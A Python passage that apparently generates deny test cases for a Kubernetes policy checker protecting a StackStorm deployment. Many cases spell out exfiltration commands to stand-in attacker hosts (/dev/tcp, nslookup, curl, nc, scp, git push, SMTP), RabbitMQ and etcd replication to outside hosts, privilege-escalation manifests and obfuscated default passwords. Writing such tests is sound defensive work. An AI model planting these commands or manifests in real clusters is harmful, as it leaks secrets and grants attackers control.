     resources={'r.yaml': obj({'apiVersion': 'traefik.io/v1alpha1', 'kind': 'IngressRouteTCP', 'metadata': {'name': 'mongo'}, 'spec': {'entryPoints': ['mongo'], 'routes': [{'match': 'HostSNI(`*`)', 'services': [{'name': 'mongodb', 'port': 27017}]}]}})})
case('exp-contour-httpproxy', 'prod', 'deny', 'exposure', 'Contour HTTPProxy (root proxy, public virtualhost) to the RabbitMQ management UI',
     resources={'r.yaml': obj({'apiVersion': 'projectcontour.io/v1', 'kind': 'HTTPProxy', 'metadata': {'name': 'st2api'}, 'spec': {'virtualhost': {'fqdn': 'rmq.st2.example.com'}, 'routes': [{'services': [{'name': 'rabbitmq', 'port': 15672}]}]}})})
case('exp-ingress-st2stream-norange', 'prod', 'deny', 'exposure', 'extra Ingress path /rmq routing to rabbitmq management on st2web Ingress',
     [({'group': 'networking.k8s.io', 'kind': 'Ingress', 'name': 'st2web'}, [{'op': 'add', 'path': '/spec/rules/0/http/paths/-', 'value': {'path': '/rmq', 'pathType': 'Prefix', 'backend': {'service': {'name': 'rabbitmq', 'port': {'number': 15672}}}}}])])
case('exp-ingress-defaultbackend-mongo', 'prod', 'deny', 'exposure', 'Ingress defaultBackend to etcd client port', 
     [({'group': 'networking.k8s.io', 'kind': 'Ingress', 'name': 'st2web'}, [{'op': 'add', 'path': '/spec/defaultBackend', 'value': {'service': {'name': 'etcd', 'port': {'number': 2379}}}}])])
case('exp-svc-selector-swap', 'prod', 'deny', 'exposure', 'st2web Service (behind public Ingress) re-pointed by selector at RabbitMQ pods on 15672',
     [(svc('st2web'), [{'op': 'replace', 'path': '/spec/selector', 'value': {'app': 'rabbitmq', 'release': 'st2'}}, {'op': 'add', 'path': '/spec/ports/0/targetPort', 'value': 15672}])])
case('exp-ingress-backend-rename', 'prod', 'deny', 'exposure', 'public st2web Ingress backend changed to st2api (API without st2web)',
     [({'group': 'networking.k8s.io', 'kind': 'Ingress', 'name': 'st2web'}, [{'op': 'replace', 'path': '/spec/rules/0/http/paths/0/backend/service', 'value': {'name': 'mongodb', 'port': {'number': 27017}}}])])
case('exp-lb-st2web-ipv6-all', 'prod', 'deny', 'exposure', 'st2web LoadBalancer with source range ::/0 only, dual-stack', resources=lb('st2web-lb', 'st2web', 443, None, {'loadBalancerSourceRanges': ['::/0'], 'ipFamilyPolicy': 'PreferDualStack'}))
case('exp-dev-lb-rmq', 'dev', 'deny', 'exposure', 'dev: RabbitMQ with the published default password on an open LoadBalancer (EXP-016 any env)', resources=lb('rmq-lb', 'rabbitmq', 5672, {'service.beta.kubernetes.io/aws-load-balancer-internal': 'false'}))

# ---------------------------------------------------------------- stores
case('mongo-transition-to-auth', 'prod', 'deny', 'store-no-auth', 'mongod --transitionToAuth accepts unauthenticated connections (MongoDB docs)',
     [(dep('mongodb', 'StatefulSet'), [{'op': 'add', 'path': '/spec/template/spec/containers/0/args/-', 'value': '--transitionToAuth'}])])
case('mongo-transition-config', 'prod', 'deny', 'store-no-auth', 'mongod --setParameter transitionToAuth? no: security.transitionToAuth in a --config file',
     [(dep('mongodb', 'StatefulSet'), [{'op': 'add', 'path': '/spec/template/spec/containers/0/args/-', 'value': '--config=/etc/mongo/r13.conf'}] + mountcm('mongo-extra', '/etc/mongo'))], {'cm.yaml': cmres('mongo-extra', {'r13.conf': 'security:\n  transitionToAuth: true\n'})})
if 0: case('mongo-rs-add-external', 'prod', 'deny', 'exfiltration', 'replset-init.js adds an outside hidden member: every document replicated out (rs.add)',
     [(cm('mongodb-scripts'), [{'op': 'add', 'path': '/data/replset-init.js', 'value': 'rs.add({ host: "mongo-dr.attacker.example:27017", priority: 0, hidden: true, votes: 0 });\n'}])])
if 0: case('mongo-rs-member-ip', 'prod', 'deny', 'exfiltration', 'rs.initiate with a 4th member on an outside IP (priority 0, votes 0)',
     [(cm('mongodb-scripts'), [{'op': 'replace', 'path': '/data/replset-init.js', 'value': 'var s = db.adminCommand({ replSetGetStatus: 1 });\nif (s.code === 94) {\n  rs.initiate({ _id: "rs0", members: [\n    { _id: 0, host: "mongodb-0.mongodb:27017" },\n    { _id: 1, host: "mongodb-1.mongodb:27017" },\n    { _id: 2, host: "mongodb-2.mongodb:27017" },\n    { _id: 3, host: "203.0.113.90:27017", priority: 0, votes: 0, hidden: true }\n  ]});\n}\n'}])])
case('mongo-replset-name', 'prod', 'deny', 'crash-loop', 'mongod --replSet rs1 while st2 connects with replicaSet=rs0: driver finds no member of rs0, st2 exits',
     [(dep('mongodb', 'StatefulSet'), [{'op': 'replace', 'path': '/spec/template/spec/containers/0/args/1', 'value': 'rs1'}])])
case('mongo-cache-oom', 'prod', 'deny', 'crash-loop', '--wiredTigerCacheSizeGB 16 under a 4Gi limit: OOMKilled (WiredTiger cache is an allocation cap, limit is hard)',
     [(dep('mongodb', 'StatefulSet'), [{'op': 'add', 'path': '/spec/template/spec/containers/0/args/-', 'value': '--wiredTigerCacheSizeGB'}, {'op': 'add', 'path': '/spec/template/spec/containers/0/args/-', 'value': '16'}])])
case('mongo-memlimit-tiny', 'prod', 'deny', 'crash-loop', 'mongod memory limit 64Mi: OOMKilled at start',
     [(dep('mongodb', 'StatefulSet'), [{'op': 'replace', 'path': '/spec/template/spec/containers/0/resources', 'value': {'requests': {'cpu': '100m', 'memory': '32Mi'}, 'limits': {'cpu': '500m', 'memory': '64Mi'}}}])])
case('mongo-startup-probe-1s', 'prod', 'deny', 'crash-loop', 'startupProbe failureThreshold 1 period 1s on mongod: killed before it listens',
     [(dep('mongodb', 'StatefulSet'), [{'op': 'add', 'path': '/spec/template/spec/containers/0/startupProbe', 'value': {'tcpSocket': {'port': 27017}, 'initialDelaySeconds': 0, 'periodSeconds': 1, 'failureThreshold': 1}}])])
case('rmq-auth-http-external', 'prod', 'deny', 'exfiltration', 'RabbitMQ auth_backends http with user_path outside: every login sends username+password to it (rabbitmq_auth_backend_http)',
     [(cm('rabbitmq-config'), [{'op': 'replace', 'path': '/data/enabled_plugins', 'value': '[rabbitmq_management,rabbitmq_auth_backend_http].\n'},
       {'op': 'replace', 'path': '/data/rabbitmq.conf', 'value': None}])])
case('rmq-auth-ldap-external', 'prod', 'deny', 'exfiltration', 'RabbitMQ auth_backends ldap with server outside: simple bind sends st2 password out (rabbitmq_auth_backend_ldap)',
     [(cm('rabbitmq-config'), [{'op': 'replace', 'path': '/data/enabled_plugins', 'value': '[rabbitmq_management,rabbitmq_auth_backend_ldap].\n'}, {'op': 'replace', 'path': '/data/rabbitmq.conf', 'value': None}])])
if 0: case('rmq-extra-node', 'prod', 'deny', 'exfiltration', 'classic_config peer list with an outside node: cluster joins it, mirrored queues replicate out',
     [(cm('rabbitmq-config'), [{'op': 'replace', 'path': '/data/rabbitmq.conf', 'value': None}])])
case('rmq-shovel-poststart', 'prod', 'deny', 'exfiltration', 'postStart hook sets a shovel copying st2 execution queue to an outside broker (rabbitmq_shovel)',
     [(dep('rabbitmq', 'StatefulSet'), [{'op': 'add', 'path': '/spec/template/spec/containers/0/lifecycle', 'value': {'postStart': {'exec': {'command': ['sh', '-c', 'sleep 60; rabbitmq-plugins enable rabbitmq_shovel; rabbitmqctl set_parameter shovel st2-dr \'{"src-protocol":"amqp091","src-uri":"amqp://","src-exchange":"st2.execution","src-exchange-key":"#","dest-protocol":"amqp091","dest-uri":"amqp://dr:dr@broker.attacker.example"}\'']}}}}])])
case('rmq-federation', 'prod', 'deny', 'exfiltration', 'federation upstream outside + policy federating ^st2. exchanges: whatever the outside broker publishes is copied into st2 exchanges (trigger instances, executions)',
     [(dep('rabbitmq', 'StatefulSet'), [{'op': 'add', 'path': '/spec/template/spec/containers/0/lifecycle', 'value': {'postStart': {'exec': {'command': ['sh', '-c', 'sleep 60; rabbitmq-plugins enable rabbitmq_federation; rabbitmqctl set_parameter federation-upstream ext \'{"uri":"amqp://203.0.113.61"}\'; rabbitmqctl set_policy --apply-to exchanges fed "^st2\\." \'{"federation-upstream-set":"all"}\'']}}}}])])
case('etcd-extra-member', 'prod', 'deny', 'exfiltration', 'etcd --initial-cluster with a 4th outside member: 4-member cluster needs 3 of 4, data replicated out',
     [(dep('etcd', 'StatefulSet'), [{'op': 'replace', 'path': '/spec/template/spec/containers/0/command/7', 'value': '--initial-cluster=etcd-0=http://etcd-0.etcd-headless:2380,etcd-1=http://etcd-1.etcd-headless:2380,etcd-2=http://etcd-2.etcd-headless:2380,etcd-3=http://203.0.113.33:2380'}])])
case('etcd-wrong-token-probe', 'prod', 'deny', 'crash-loop', 'etcd --initial-cluster-state=existing on a new cluster: members refuse to start (no existing cluster)',
     [(dep('etcd', 'StatefulSet'), [{'op': 'replace', 'path': '/spec/template/spec/containers/0/command/8', 'value': '--initial-cluster-state=existing'}])])
if 0: case('rmq-erl-args-loopback', 'prod', 'deny', 'store-no-auth', 'RABBITMQ_SERVER_ADDITIONAL_ERL_ARGS adds a guest default user reachable remotely',
     [(dep('rabbitmq', 'StatefulSet'), [{'op': 'add', 'path': '/spec/template/spec/containers/0/env/-', 'value': {'name': 'RABBITMQ_SERVER_ADDITIONAL_ERL_ARGS', 'value': '-rabbit loopback_users [] -rabbit default_user <<"guest">> -rabbit default_pass <<"guest">>'}}])], plant=None)

# ---------------------------------------------------------------- workload exfiltration
def sc(dname, name, cmd, image='busybox:1.36.1', extra_ops=()):
    return [(dep(dname), sidecar(st2c(name, cmd, image)) + list(extra_ops))]
case('x-devtcp', 'prod', 'deny', 'exfiltration', 'bash /dev/tcp redirection sends st2.secrets.conf to an outside IP',
     sc('st2api', 'diag', ['bash', '-c', 'cat /etc/st2/st2.secrets.conf > /dev/tcp/203.0.113.5/443; sleep infinity'], A8))
case('x-dns-exfil', 'prod', 'deny', 'exfiltration', 'DNS exfiltration: nslookup of base32 chunks of the secrets file under an attacker zone',
     sc('st2api', 'diag', ['sh', '-c', 'for c in $(base32 -w 50 /etc/st2/st2.secrets.conf | tr -d =); do nslookup $c.t.attacker.example; done; sleep infinity']))
case('x-python-post', 'prod', 'deny', 'exfiltration', 'python urllib posts the datastore key outside',
     sc('st2actionrunner', 'diag', ['python3', '-c', "import urllib.request as u; u.urlopen('https://203.0.113.8/k', data=open('/etc/st2/keys/datastore_key.json','rb').read())"], A8))
case('x-openssl', 'prod', 'deny', 'exfiltration', 'openssl s_client pipes the secrets file to an outside host',
     sc('st2auth', 'diag', ['sh', '-c', 'openssl s_client -quiet -connect drop.attacker.example:443 < /etc/st2/st2.secrets.conf; sleep infinity'], A8))
case('x-liveness-wget', 'prod', 'deny', 'exfiltration', 'livenessProbe exec posts st2.secrets.conf every 20 s (kubelet runs probe commands in the container)',
     [(dep('st2api'), [{'op': 'replace', 'path': '/spec/template/spec/containers/0/livenessProbe', 'value': {'exec': {'command': ['sh', '-c', 'wget -q -O- --post-file=/etc/st2/st2.secrets.conf https://hc.attacker.example/ >/dev/null; true']}, 'periodSeconds': 20}}])])
case('x-prestop-curl', 'prod', 'deny', 'exfiltration', 'preStop hook curls the datastore key outside on every rollout',
     [(dep('st2rulesengine'), [{'op': 'add', 'path': '/spec/template/spec/containers/0/lifecycle', 'value': {'preStop': {'exec': {'command': ['sh', '-c', 'curl -s -T /etc/st2/keys/datastore_key.json https://bye.attacker.example/']}}}}])])
case('x-nc-pipe', 'prod', 'deny', 'exfiltration', 'nc to outside IP with mongodump archive',
     sc('mongodb', 'backup', ['sh', '-c', 'mongodump --archive -u "$U" -p "$P" --authenticationDatabase admin | nc 198.51.100.99 9000; sleep infinity'], 'mongo:4.4.29') if False else
     [(dep('mongodb', 'StatefulSet'), sidecar({'name': 'backup', 'image': 'mongo:4.4.29', 'command': ['sh', '-c', 'while true; do mongodump --archive -u "$MONGO_INITDB_ROOT_USERNAME" -p "$MONGO_INITDB_ROOT_PASSWORD" --authenticationDatabase admin | nc 198.51.100.99 9000; sleep 3600; done'], 'env': [{'name': 'MONGO_INITDB_ROOT_USERNAME', 'valueFrom': {'secretKeyRef': {'name': 'mongodb-admin', 'key': 'user'}}}, {'name': 'MONGO_INITDB_ROOT_PASSWORD', 'valueFrom': {'secretKeyRef': {'name': 'mongodb-admin', 'key': 'password'}}}]}))])
case('x-git-push', 'prod', 'deny', 'exfiltration', 'sidecar commits the secrets file and git-pushes it to an outside repo',
     sc('st2actionrunner', 'sync', ['sh', '-c', 'cd /tmp && git init -q b && cp /etc/st2/st2.secrets.conf b/ && cd b && git add . && git -c user.name=x -c user.email=x@x commit -qm s && git push -q https://git.attacker.example/drop.git HEAD:main; sleep infinity'], A8))
case('x-smtp', 'prod', 'deny', 'exfiltration', 'python smtplib mails the secrets file out',
     sc('st2actionrunner', 'mailer', ['python3', '-c', "import smtplib; s=smtplib.SMTP('mx.attacker.example',25); s.sendmail('a@b','drop@attacker.example',open('/etc/st2/st2.secrets.conf').read())"], A8))
case('x-ssh-scp', 'prod', 'deny', 'exfiltration', 'scp of the datastore key to an outside host with the stanley key',
     sc('st2actionrunner', 'sync', ['sh', '-c', 'scp -o StrictHostKeyChecking=no -i /home/stanley/.ssh/stanley_rsa /etc/st2/keys/datastore_key.json drop@198.51.100.12:/tmp/; sleep infinity'], A8))
case('x-kubelet-httpget-host', 'prod', 'deny', 'exfiltration', 'httpGet probe with host outside and the Authorization header literal-free but downward-API? (probe to outside host: kubelet egress)',
     [(dep('st2api'), [{'op': 'replace', 'path': '/spec/template/spec/containers/0/livenessProbe', 'value': {'httpGet': {'host': 'beacon.attacker.example', 'path': '/st2-prod', 'port': 80}, 'periodSeconds': 20}}])])

# ---------------------------------------------------------------- privilege
def role(name, rules): return obj({'apiVersion': 'rbac.authorization.k8s.io/v1', 'kind': 'Role', 'metadata': {'name': name}, 'rules': rules})
def rb(name, role, subjects): return obj({'apiVersion': 'rbac.authorization.k8s.io/v1', 'kind': 'RoleBinding', 'metadata': {'name': name}, 'roleRef': {'apiGroup': 'rbac.authorization.k8s.io', 'kind': 'Role', 'name': role}, 'subjects': subjects})
G = lambda g: {'kind': 'Group', 'apiGroup': 'rbac.authorization.k8s.io', 'name': g}
SA = lambda n: {'kind': 'ServiceAccount', 'name': n, 'namespace': 'st2-prod'}
case('rbac-sa-token-authn', 'prod', 'deny', 'privilege-escalation', 'any authenticated user may mint tokens for st2 service accounts (serviceaccounts/token create)',
     resources={'r.yaml': role('r13', [{'apiGroups': [''], 'resources': ['serviceaccounts/token'], 'verbs': ['create']}]) + '---\n' + rb('r13', 'r13', [G('system:authenticated')])})
case('rbac-secrets-all-sa', 'prod', 'deny', 'privilege-escalation', 'every service account of the cluster (group system:serviceaccounts) reads st2 secrets',
     resources={'r.yaml': role('r13', [{'apiGroups': [''], 'resources': ['secrets'], 'verbs': ['get', 'list']}]) + '---\n' + rb('r13', 'r13', [G('system:serviceaccounts')])})
case('rbac-ephemeral-default-sa', 'prod', 'deny', 'privilege-escalation', 'default SA (st2actionrunner runs user actions with it) may add ephemeral containers to any pod incl. mongodb (pods/ephemeralcontainers = exec)',
     resources={'r.yaml': role('r13', [{'apiGroups': [''], 'resources': ['pods/ephemeralcontainers'], 'verbs': ['patch', 'update']}, {'apiGroups': [''], 'resources': ['pods'], 'verbs': ['get', 'list']}]) + '---\n' + rb('r13', 'r13', [SA('default')])})
case('rbac-escalate-bind', 'prod', 'deny', 'privilege-escalation', 'role with bind/escalate on roles for authenticated users: grant themselves anything in st2-prod',
     resources={'r.yaml': role('r13', [{'apiGroups': ['rbac.authorization.k8s.io'], 'resources': ['roles', 'rolebindings'], 'verbs': ['create', 'bind', 'escalate']}]) + '---\n' + rb('r13', 'r13', [G('system:authenticated')])})
case('rbac-pods-attach-unauth', 'prod', 'deny', 'privilege-escalation', 'system:unauthenticated may attach to pods',
     resources={'r.yaml': role('r13', [{'apiGroups': [''], 'resources': ['pods/attach', 'pods/portforward'], 'verbs': ['create', 'get']}]) + '---\n' + rb('r13', 'r13', [G('system:unauthenticated')])})
case('rbac-user-wildcard', 'prod', 'deny', 'privilege-escalation', 'Role rules with wildcard resources and verbs bound to the default SA used by st2actionrunner',
     resources={'r.yaml': role('r13', [{'apiGroups': ['*'], 'resources': ['*'], 'verbs': ['*']}]) + '---\n' + rb('r13', 'r13', [SA('default')])})
def hostpath(dname, path, typ=None, kind='Deployment'):
    hp = {'path': path}
    if typ: hp['type'] = typ
    return [(dep(dname, kind), [{'op': 'add', 'path': '/spec/template/spec/volumes/-', 'value': {'name': 'hp', 'hostPath': hp}},
             {'op': 'add', 'path': '/spec/template/spec/containers/0/volumeMounts/-', 'value': {'name': 'hp', 'mountPath': '/host'}}])]
case('hp-kubelet-pods', 'prod', 'deny', 'privilege-escalation', 'hostPath /var/lib/kubelet/pods in st2actionrunner: every pod Secret on the node readable by actions', hostpath('st2actionrunner', '/var/lib/kubelet/pods'))
case('hp-var-log', 'prod', 'deny', 'privilege-escalation', 'hostPath /var/log writable: symlink in /var/log/pods makes kubelet serve any host file (known /var/log escape)', hostpath('st2actionrunner', '/var/log'))
case('hp-k3s-sock', 'prod', 'deny', 'privilege-escalation', 'k3s containerd socket hostPath', hostpath('st2actionrunner', '/run/k3s/containerd/containerd.sock', 'Socket'))
case('hp-crio-sock-dir', 'prod', 'deny', 'privilege-escalation', 'hostPath /var/run/crio directory (CRI-O socket inside)', hostpath('st2actionrunner', '/var/run/crio', 'Directory'))
case('hp-etc-kubernetes', 'prod', 'deny', 'privilege-escalation', 'hostPath /etc/kubernetes (kubelet kubeconfig, pki)', hostpath('st2client', '/etc/kubernetes'))
case('hp-dot-path', 'prod', 'deny', 'privilege-escalation', 'hostPath //run/./containerd/../containerd/containerd.sock (unnormalised)', hostpath('st2actionrunner', '/run/./containerd/../containerd/containerd.sock'))
case('hp-dev-dev', 'prod', 'deny', 'privilege-escalation', 'hostPath /dev (raw disks)', hostpath('st2actionrunner', '/dev'))
case('hp-trailing-slash-root', 'prod', 'deny', 'privilege-escalation', 'hostPath "//" (node root written oddly)', hostpath('st2actionrunner', '//'))
case('priv-hostpid-runner', 'prod', 'deny', 'privilege-escalation', 'hostPID on st2actionrunner (root): actions see node processes, /proc/<pid>/environ of other pods (PSS baseline forbids)',
     [(dep('st2actionrunner'), [{'op': 'add', 'path': '/spec/template/spec/hostPID', 'value': True}])])
case('priv-sysadmin-runner', 'prod', 'deny', 'privilege-escalation', 'CAP_SYS_ADMIN on st2actionrunner (root): mount, cgroup escape (PSS baseline)',
     [(dep('st2actionrunner'), [{'op': 'replace', 'path': '/spec/template/spec/containers/0/securityContext', 'value': {'capabilities': {'add': ['SYS_ADMIN', 'SYS_PTRACE']}, 'allowPrivilegeEscalation': True}}])])
case('priv-procmount', 'prod', 'deny', 'privilege-escalation', 'procMount Unmasked + seccomp Unconfined on st2actionrunner',
     [(dep('st2actionrunner'), [{'op': 'replace', 'path': '/spec/template/spec/containers/0/securityContext', 'value': {'procMount': 'Unmasked', 'seccompProfile': {'type': 'Unconfined'}}}])])
case('priv-ns-label-privileged', 'prod', 'deny', 'privilege-escalation', 'Namespace st2-prod pod-security enforce privileged',
     [({'kind': 'Namespace', 'name': 'st2-prod'}, [{'op': 'replace', 'path': '/metadata/labels/pod-security.kubernetes.io~1enforce', 'value': 'privileged'}])])
case('priv-apparmor-unconfined', 'prod', 'deny', 'privilege-escalation', 'appArmorProfile Unconfined + CAP_NET_RAW,NET_ADMIN on actionrunner',
     [(dep('st2actionrunner'), [{'op': 'replace', 'path': '/spec/template/spec/containers/0/securityContext', 'value': {'appArmorProfile': {'type': 'Unconfined'}, 'capabilities': {'add': ['NET_ADMIN', 'NET_RAW']}}}])])
case('priv-dns-none-external', 'prod', 'deny', 'exfiltration', 'dnsPolicy None with an outside nameserver on st2api: attacker DNS answers mongodb/rabbitmq names, st2 sends credentials there',
     [(dep('st2api'), [{'op': 'add', 'path': '/spec/template/spec/dnsPolicy', 'value': 'None'}, {'op': 'add', 'path': '/spec/template/spec/dnsConfig', 'value': {'nameservers': ['203.0.113.53'], 'searches': ['st2-prod.svc.cluster.local', 'svc.cluster.local']}}])])
case('priv-hostalias-rmq', 'prod', 'deny', 'exfiltration', 'hostAliases maps rabbitmq to an outside IP in every scheduler pod: st2 logs in with its RabbitMQ password there',
     [(dep('st2scheduler'), [{'op': 'add', 'path': '/spec/template/spec/hostAliases', 'value': [{'ip': '198.51.100.44', 'hostnames': ['rabbitmq']}]}])])
case('svc-externalname-etcd', 'prod', 'deny', 'exfiltration', 'Service etcd turned ExternalName to an outside host: st2 coordination locks and data go out',
     [(svc('etcd'), [{'op': 'replace', 'path': '/spec', 'value': {'type': 'ExternalName', 'externalName': 'etcd.attacker.example'}}])])
case('svc-endpoints-rmq', 'prod', 'deny', 'exfiltration', 'selectorless rabbitmq Service + manual Endpoints to an outside IP: st2 sends AMQP credentials there',
     [(svc('rabbitmq'), [{'op': 'remove', 'path': '/spec/selector'}])],
     {'ep.yaml': obj({'apiVersion': 'v1', 'kind': 'Endpoints', 'metadata': {'name': 'rabbitmq'}, 'subsets': [{'addresses': [{'ip': '198.51.100.45'}], 'ports': [{'name': 'amqp', 'port': 5672}]}]})})

# ---------------------------------------------------------------- crash loops / k8s semantics
case('k-nonroot-uid0', 'prod', 'deny', 'crash-loop', 'st2api runAsNonRoot true with runAsUser 0: kubelet refuses to start the container (CreateContainerConfigError)',
     [(dep('st2api'), [{'op': 'add', 'path': '/spec/template/spec/containers/0/securityContext/runAsUser', 'value': 0}, {'op': 'add', 'path': '/spec/template/spec/containers/0/securityContext/runAsNonRoot', 'value': True}])])
case('k-init-wrong-port', 'prod', 'deny', 'crash-loop', 'st2scheduler wait-for-db polls port 27018: init never completes, no scheduler runs',
     [(dep('st2scheduler'), [{'op': 'replace', 'path': '/spec/template/spec/initContainers/0/command/2', 'value': 'until nc -z -w 2 mongodb 27018; do sleep 2; done'}])])
case('k-init-sleep-forever', 'prod', 'deny', 'crash-loop', 'init container sleep infinity (no restartPolicy Always): pod never starts, st2api down',
     [(dep('st2api'), [{'op': 'add', 'path': '/spec/template/spec/initContainers/0', 'value': {'name': 'hold', 'image': 'busybox:1.36.1', 'command': ['sleep', 'infinity']}}])])
case('k-subpath-typo', 'prod', 'deny', 'crash-loop', 'st2.user.conf subPath names a key the ConfigMap lacks: kubelet mounts an empty dir, oslo.config cannot read it (st2 exits)',
     [(dep('st2api'), [{'op': 'replace', 'path': '/spec/template/spec/containers/0/volumeMounts/1/subPath', 'value': 'st2.users.conf'}])])
case('k-cm-items-drop', 'prod', 'deny', 'crash-loop', 'st2-config volume items keep only st2.docker.conf: subPath st2.user.conf missing',
     [(dep('st2workflowengine'), [{'op': 'add', 'path': '/spec/template/spec/volumes/1/configMap/items', 'value': [{'key': 'st2.docker.conf', 'path': 'st2.docker.conf'}]}])])
case('k-liveness-401', 'prod', 'deny', 'crash-loop', 'st2api liveness httpGet /v1/actions without token answers 401: kubelet counts >=400 as failure, restarts forever',
     [(dep('st2api'), [{'op': 'replace', 'path': '/spec/template/spec/containers/0/livenessProbe', 'value': {'httpGet': {'path': '/v1/actions', 'port': 9101}, 'initialDelaySeconds': 30, 'periodSeconds': 10, 'failureThreshold': 3}}])])
case('k-st2auth-liveness-401', 'prod', 'deny', 'crash-loop', 'st2auth liveness httpGet /tokens (GET not allowed / 401) restarts st2auth forever',
     [(dep('st2auth'), [{'op': 'replace', 'path': '/spec/template/spec/containers/0/livenessProbe', 'value': {'httpGet': {'path': '/tokens', 'port': 9100}, 'periodSeconds': 10, 'failureThreshold': 2}}])])
case('k-config-dir-missing', 'prod', 'deny', 'crash-loop', '--config-dir to a directory that does not exist: oslo.config ConfigDirNotFoundError, st2rulesengine exits',
     [(dep('st2rulesengine'), [{'op': 'add', 'path': '/spec/template/spec/containers/0/args/-', 'value': '--config-dir=/etc/st2/conf.d'}])])
case('k-namesuffix', 'prod', 'deny', 'crash-loop', 'nameSuffix renames Services (mongodb-v2...) but st2.docker.conf and wait-for-* keep the old hostnames: nothing connects',
     kust_extra='nameSuffix: -v2\n')
case('k-memlimit-api', 'prod', 'deny', 'crash-loop', 'st2api memory limit 24Mi: gunicorn+st2 imports exceed it, OOMKilled',
     [(dep('st2api'), [{'op': 'replace', 'path': '/spec/template/spec/containers/0/resources', 'value': {'requests': {'cpu': '100m', 'memory': '16Mi'}, 'limits': {'cpu': '1', 'memory': '24Mi'}}}])])
case('k-rmq-memlimit', 'prod', 'deny', 'crash-loop', 'RabbitMQ limit 32Mi: beam.smp cannot start',
     [(dep('rabbitmq', 'StatefulSet'), [{'op': 'replace', 'path': '/spec/template/spec/containers/0/resources', 'value': {'requests': {'cpu': '100m', 'memory': '16Mi'}, 'limits': {'cpu': '1', 'memory': '32Mi'}}}])])
case('k-etcd-probe-https', 'prod', 'deny', 'crash-loop', 'etcd liveness probe scheme HTTPS on a plain-http listener: fails, etcd restarted forever',
     [(dep('etcd', 'StatefulSet'), [{'op': 'add', 'path': '/spec/template/spec/containers/0/livenessProbe/httpGet/scheme', 'value': 'HTTPS'}])])
case('k-deadline-job', 'prod', 'deny', 'crash-loop', 'register-content Job activeDeadlineSeconds 1: always killed, packs never registered',
     [({'kind': 'Job', 'name': 'st2-register-content'}, [{'op': 'add', 'path': '/spec/activeDeadlineSeconds', 'value': 1}])])

# ---------------------------------------------------------------- secrets in new places
PW = 'Ch@ngeMe'; RMQ = '9jS+w1u07NbHtZke1m+jW4Cj'; MGO = 'XeL5Rxwj7F0Wt43tFZVTN7H8Sg5XDHmK'; KEY = '82PItDpqroti5RngOA7UqbHH7c6bFUwy'; COOKIE = '8MrqQdCQ6AQ8U3MacSubHE5RqkSfvNaRHzvxuFcG'
import codecs, base64
def rot13(s): return codecs.encode(s, 'rot13')
case('sec-rot13-tr', 'prod', 'deny', 'default-secret', 'ROT13 of the RabbitMQ default password decoded by tr in the pod and used',
     [(dep('st2client'), env([('RMQ_ENC', rot13(RMQ))], append=True) + [{'op': 'replace', 'path': '/spec/template/spec/containers/0/command', 'value': ['bash', '-ec', 'export P=$(echo $RMQ_ENC | tr A-Za-z N-ZA-Mn-za-m); exec sleep infinity']}])], plant=rot13(RMQ))
case('sec-xor-python', 'prod', 'deny', 'default-secret', 'MongoDB default password XOR 0x20 (case-swapped) restored by swapcase()',
     [(dep('st2client'), env([('MGO', MGO.swapcase())], append=True) + [{'op': 'replace', 'path': '/spec/template/spec/containers/0/command', 'value': ['bash', '-ec', 'export MONGO_PASSWORD="$(python3 -c \'import os; print(os.environ["MGO"].swapcase())\')"; exec sleep infinity']}])], plant=MGO.swapcase())
case('sec-base58', 'prod', 'deny', 'default-secret', 'published MongoDB keyfile as one big-endian decimal integer of its bytes',
     [(cm('st2-pack-configs'), [{'op': 'add', 'path': '/data/r13.yaml', 'value': 'key_int: %d\n' % int.from_bytes(KEY.encode(), 'big')}])], plant=str(int.from_bytes(KEY.encode(), 'big')))
case('sec-uuencode', 'prod', 'deny', 'default-secret', 'uuencoded Erlang cookie (uudecode in shell)',
     [(cm('st2-pack-configs'), [{'op': 'add', 'path': '/data/cookie.uu', 'value': 'begin 600 cookie\n' + __import__('binascii').b2a_uu(COOKIE.encode()).decode() + '`\nend\n'}])], plant=__import__('binascii').b2a_uu(COOKIE.encode()).decode().strip())
case('sec-sed-subst', 'prod', 'deny', 'default-secret', 'default st2 password spelled with placeholder, sed fixes it',
     [(dep('st2client'), [{'op': 'replace', 'path': '/spec/template/spec/containers/0/command', 'value': ['bash', '-ec', "P=$(echo 'ChXngeMe' | sed 's/X/@/'); printf '[credentials]\\nusername=st2admin\\npassword=%s\\n' \"$P\" > /root/.st2/config; exec sleep infinity"]}])], plant='ChXngeMe')
case('sec-substr', 'prod', 'deny', 'default-secret', 'MongoDB default password as ${V:3} substring of a padded literal',
     [(dep('st2client'), env([('V', 'zzz' + MGO)], append=True) + [{'op': 'replace', 'path': '/spec/template/spec/containers/0/command', 'value': ['bash', '-ec', 'export MONGO_PASSWORD="${V:3}"; exec sleep infinity']}])], plant='zzz' + MGO)
case('sec-unicode-escape-printf', 'prod', 'deny', 'default-secret', 'printf with \\u escapes builds Ch@ngeMe',
     [(dep('st2client'), [{'op': 'replace', 'path': '/spec/template/spec/containers/0/command', 'value': ['bash', '-ec', "export ST2_PASSWORD=$(printf '\\u0043\\u0068\\u0040\\u006e\\u0067\\u0065\\u004d\\u0065'); exec sleep infinity"]}])], plant=None)
case('sec-b64-reversed', 'prod', 'deny', 'default-secret', 'base64 of the RabbitMQ password reversed, decoded by rev | base64 -d',
     [(dep('st2client'), env([('E', base64.b64encode(RMQ.encode()).decode()[::-1])], append=True) + [{'op': 'replace', 'path': '/spec/template/spec/containers/0/command', 'value': ['bash', '-ec', 'export RABBITMQ_PASSWORD="$(printf %s "$E" | rev | base64 -d)"; exec sleep infinity']}])], plant=base64.b64encode(RMQ.encode()).decode()[::-1])
case('sec-status-field', 'prod', 'deny', 'default-secret', 'published MongoDB password in a ConfigMap binaryData (base64 of it)',
     [(cm('st2-pack-configs'), [{'op': 'add', 'path': '/binaryData', 'value': {'mongo.pw': base64.b64encode(MGO.encode()).decode()}}])], plant=MGO)
case('sec-ascii-decimal-csv', 'prod', 'deny', 'default-secret', 'published Erlang cookie as space-separated decimal character codes',
     [(cm('st2-pack-configs'), [{'op': 'add', 'path': '/data/c.txt', 'value': ' '.join(str(ord(c)) for c in COOKIE)}])], plant=' '.join(str(ord(c)) for c in COOKIE))
case('sec-split-keys-env', 'prod', 'deny', 'default-secret', 'Mongo keyfile split across two env vars joined in args "$A$B"',
     [(dep('st2client'), env([('KA', KEY[:16]), ('KB', KEY[16:])], append=True) + [{'op': 'replace', 'path': '/spec/template/spec/containers/0/command', 'value': ['bash', '-ec', 'printf %s "$KA$KB" > /tmp/key.txt; exec sleep infinity']}])], plant=None)
